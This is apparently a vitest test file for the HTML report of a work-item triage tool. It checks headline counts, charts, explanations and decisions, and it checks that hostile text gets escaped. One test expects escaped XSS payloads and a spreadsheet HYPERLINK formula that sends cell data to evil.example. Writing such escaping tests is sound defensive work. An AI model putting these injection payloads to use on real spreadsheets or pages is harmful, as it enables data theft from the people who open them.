import { describe, expect, it } from 'vitest';
import { assess } from '../../src/core/assess.js';
import { applyDecision } from '../../src/core/decisions.js';
import type { AssessedItem } from '../../src/core/types.js';
import { MAX_EXPLAINED, htmlFormat } from '../../src/formats/html.js';
import { MAX_DOTS } from '../../src/formats/html-chart-data.js';
import { escapeHtml, html, trusted } from '../../src/formats/html-markup.js';
import { unionPolicy } from '../helpers/policy.js';
import { assessedFile, fixedContext, render } from './helpers.js';

const policy = unionPolicy();
const count = (text: string, needle: string | RegExp): number => text.split(needle).length - 1;

async function report(files: string[], change: (results: AssessedItem[]) => AssessedItem[] = (r) => r): Promise<{ out: string; results: AssessedItem[] }> {
  const results = change((await Promise.all(files.map((f) => assessedFile(policy, f)))).flat());
  return { out: render(htmlFormat, fixedContext(policy), results), results };
}

describe('html markup', () => {
  it('escapes every interpolated value, joins arrays and keeps markup built the same way', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
    const inner = html`<b>${'<i>'}</b>`;
    expect(html`<p title="${'" onmouseover="x'}">${inner}${['<', 1, undefined, false, null]}</p>`.text).toBe(
      '<p title="&quot; onmouseover=&quot;x"><b>&lt;i&gt;</b>&lt;1</p>',
    );
    expect(html`${trusted('<hr>')}`.text).toBe('<hr>');
  });
});

describe('html format', () => {
  it('is one self-contained document: no script, nothing fetched, a policy that forbids both', async () => {
    const { out } = await report(['examples/backlog.csv']);
    expect(out.startsWith('<!doctype html>\n<html lang="en-GB">')).toBe(true);
    expect(out).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
    expect(out).not.toMatch(/<script|<link|<img|<iframe|@import|url\(|src=|https?:\/\/(?!www\.w3\.org\/2000\/svg)/i);
    expect(count(out, '<style>')).toBe(1);
    expect(out).toContain('@media print');
  });

  it('has headline counts with totals, a chart with one mark per item, a table per route and a details per item', async () => {
    const { out } = await report(['examples/backlog.csv']);
    expect(out).toContain('<h1>22 items: who should take the work</h1>');
    expect(out).toContain('<div class="count">7</div>\n<div class="label">The Union</div>\n<div class="money">158 weeks<br>£2,210,000</div>');
    expect(out).toContain('<div class="money">74 weeks (3 of 4 known)<br>£2,200,000 (3 of 4 known)</div>');
    expect(out).toContain('<span><b>8</b> transformational</span><span><b>2</b> borderline</span><span><b>12</b> business as usual</span>');
    expect(count(out, '<g class="dot"')).toBe(22);
    expect(count(out, '<g class="dot" data-route="union">')).toBe(7);
    expect(out).toContain('<title>WI-06 Fix postcode validation on the referral form\nIndividual\nalignment 14, transformation 0 (business-as-usual)</title>');
    expect(out).toMatch(/<text x="[\d.]+" y="[\d.]+" text-anchor="end">transformational from 60<\/text>/);
    expect(out).toMatch(/<text x="[\d.]+" y="[\d.]+" text-anchor="end">business as usual below 40<\/text>/);
    expect(out).toMatch(/<text x="[\d.]+" y="[\d.]+">alignment 50<\/text>/);
    // A table per route, and the chart's data.
    expect(count(out, '<table class="items">')).toBe(6);
    expect(count(out, '<details id="item-')).toBe(22);
    expect(out).toContain('<td class="id"><a href="#item-6">WI-06</a></td>');
    expect(out).toContain('<details id="item-6" class="explain">');
  });

  it('explains each item from its trace: criteria, signals and every rule tried', async () => {
    const { out } = await report(['examples/backlog.csv']);
    const wi06 = out.slice(out.indexOf('<details id="item-6"'), out.indexOf('</details>', out.indexOf('<details id="item-6"')));
    expect(wi06).toContain(
      '<p><b>Individual</b> by rule <code>individual-can-do</code>: Small (two weeks or less), within one organisation and not recurring: a trusted individual can just do it.</p>',
    );
    expect(wi06).toContain('<h3>Alignment 14/100');
    expect(wi06).toContain('<h3>Transformation 0/100 → business-as-usual</h3>');
    expect(wi06).toContain('<b class="points">-15</b> small-piece-of-work');
    expect(wi06).toContain('<li class="rule-matched"><code>individual-can-do</code> → individual: matched');
    expect(wi06).toContain('<li class="rule-not-reached"><code>council-owns</code> → council: not reached (would also match)</li>');
  });

  it('escapes hostile item text everywhere it appears', async () => {
    const { out } = await report(['test/fixtures/reports/hostile.csv']);
    expect(out).not.toMatch(/<script|<img|<b>bold/);
    expect(out).toContain('&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;');
    expect(out).toContain('&lt;img src=x onerror=alert(&#39;description&#39;)&gt;');
    expect(out).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click for details&quot;)');
  });

  it('shows a decision: who, why, stale, confirmed or overridden, and what the tool recommended', async () => {
    const { out } = await report(['examples/backlog.csv'], (results) =>
      results.map((r) =>
        r.assessment.id === 'WI-12'
          ? { ...r, assessment: applyDecision(policy, r.assessment, { id: 'WI-12', route: 'union', rationale: 'One platform <now>', by: 'Jo' }, true) }
          : r.assessment.id === 'WI-04'
            ? { ...r, assessment: applyDecision(policy, r.assessment, { id: 'WI-04', route: 'council', by: 'Asha' }, false) }
            : r,
      ),
    );
    expect(out).toContain(
      '<p class="notice">Decided by a person: <b>1</b> overridden, <b>1</b> confirmed; <b>1</b> of those decisions is stale (the item changed after it was decided).</p>\n<p class="notice">1 not settled (marked ?): a missing fact could change the route; chase lead (1)</p>',
    );
    expect(out).toContain(
      '<td class="text"><span class="badge">overridden</span> <span class="badge stale">stale</span>\n<div class="decision">Jo: One platform &lt;now&gt;</div>\n<div class="muted">The tool recommended <span class="tag route-4">Needs review</span> (rule <code>challenge-weak-alignment</code>): Needs review: transformational (85: spans organisations +30, new way of working +25) but alignment 18 is below 50</div></td>',
    );
    expect(out).toContain(
      '<td class="text"><span class="badge">confirmed</span>\n<div class="decision">Asha: no rationale given</div>\n<div class="muted">The tool recommended <span class="tag route-1">Council</span> (rule <code>council-owns</code>): Council: business as usual (0: recurring −40, keeps things running −25); lead is council</div></td>',
    );
    expect(out).toContain(
      '<b>The Union</b>, decided by a person. Decided by Jo: One platform &lt;now&gt;. The tool recommended Needs review (rule challenge-weak-alignment). The item has changed since: the decision is stale.',
    );
    expect(out).toContain('<p class="decision"><b>Council</b>, decided by a person. Confirmed by Asha.</p>');
    expect(out).toContain('<h2 class="section-head" id="section-0-head">The Union <span class="muted">(8)</span></h2>');
  });

  it('leads each row with the reason, and marks and explains what is not settled', async () => {
    const { out } = await report(['examples/backlog.csv']);
    expect(out).toContain(
      '<td>business as usual<abbr title="not settled: a missing fact could change the route">?</abbr></td>\n<td class="num">9</td>\n<td class="num">0</td>\n<td class="num">0.39</td>\n<td class="num">—</td>\n<td class="num">—</td>\n<td class="text">Business as usual so far (no signal of change known); no rule could place it: effort_weeks, organisations, recurring and lead are unknown<div class="muted">Not settled: chase lead.</div></td>',
    );
    expect(out).toContain(
      '<p class="because"><b>Needs review: business as usual so far (no signal of change known); no rule could place it: effort_weeks, organisations, recurring and lead are unknown</b></p>\n<p class="muted">Not settled: alignment could be 9-64 and transformation 0-75 once the missing facts are known; chase lead.</p>',
    );
    expect(out).toContain('<td class="text">Transformational (100: spans organisations +30, new way of working +25) and alignment 69 is at least 50</td>');
    expect(count(out, '<abbr title="not settled')).toBe(1);
    expect(out).not.toContain('Decided by a person');
  });

  it('lists what would change the route in each explanation, when assessed with counterfactuals', async () => {
    const { out } = await report(['examples/backlog.csv'], (results) =>
      results.map((r) => ({ ...r, assessment: assess(policy, r.item, { counterfactuals: true }) })),
    );
    const wi15 = out.slice(out.indexOf('<details id="item-15"'), out.indexOf('</details>', out.indexOf('<details id="item-15"')));
    expect(wi15).toContain(
      '<p><b>What would change it</b></p>\n<ul class="what-if"><li>Council if lead were council</li><li>CCG if lead were ccg</li><li>The Union if description mentioned &quot;data&quot; and &quot;pilot&quot;; organisations were council, ccg, acute-trust; citizen_impact were 4 (alignment 9 → 50, transformation 0 → 70)</li><li>Individual if organisations were acute-trust; effort_weeks were 2; recurring were false (alignment 9 → 14)</li></ul>',
    );
    expect(count(out, '<ul class="what-if">')).toBe(22);
  });

  it('explains at most MAX_EXPLAINED items, links only those, and says how to see the rest', async () => {
    const base = await assessedFile(policy, 'examples/backlog.csv');
    const many = Array.from({ length: MAX_EXPLAINED + 5 }, (_, i) => {
      const r = base[i % base.length] as AssessedItem;
      const id = `X-${i + 1}`;
      return { item: { ...r.item, id }, assessment: { ...r.assessment, id } };
    });
    const out = render(htmlFormat, fixedContext(policy), many);
    expect(count(out, '<details id="item-')).toBe(MAX_EXPLAINED);
    expect(count(out, '<td class="id"><a href="#item-')).toBe(MAX_EXPLAINED);
    expect(count(out, '<g class="dot"')).toBe(MAX_EXPLAINED + 5);
    expect(out).toContain(
      'The explanations of the other 5 items are left out to keep this file small: run <code>triage explain &lt;id&gt;</code> for any of them.',
    );
  });

  it('draws density instead of a mark per item past MAX_DOTS, and says so', async () => {
    const base = await assessedFile(policy, 'examples/backlog.csv');
    const many = Array.from({ length: MAX_DOTS + 1 }, (_, i) => {
      const r = base[i % base.length] as AssessedItem;
      const id = `X-${i + 1}`;
      return { item: { ...r.item, id }, assessment: { ...r.assessment, id } };
    });
    const out = render(htmlFormat, fixedContext(policy), many);
    expect(count(out, '<g class="dot"')).toBe(0);
    const cells = count(out, '<g class="cell"');
    expect(cells).toBeGreaterThan(0);
    expect(cells).toBeLessThanOrEqual(22);
    expect(out).toContain('.chart .cell>rect{');
    expect(out).toContain(`${(MAX_DOTS + 1).toLocaleString('en-GB')} items. Drawn as density:`);
    expect(out).toContain('There are too many items for a mark each');
    // Every item is counted in some cell's tooltip.
    const counted = [...out.matchAll(/<title>alignment [\d–]+, transformation [\d–]+: ([\d,]+) items?\n/g)].map((m) =>
      Number((m[1] as string).replace(/,/g, '')),
    );
    expect(counted.reduce((a, b) => a + b, 0)).toBe(MAX_DOTS + 1);
    // The rows and their tables are all still there.
    expect(count(out, '<td class="id">')).toBe(MAX_DOTS + 1);
  });

  it('marks each item when there are MAX_DOTS or fewer, with no density styles', async () => {
    const { out } = await report(['examples/backlog.csv']);
    expect(count(out, '<g class="cell"')).toBe(0);
    expect(out).not.toContain('.chart .cell>rect{');
  });
});
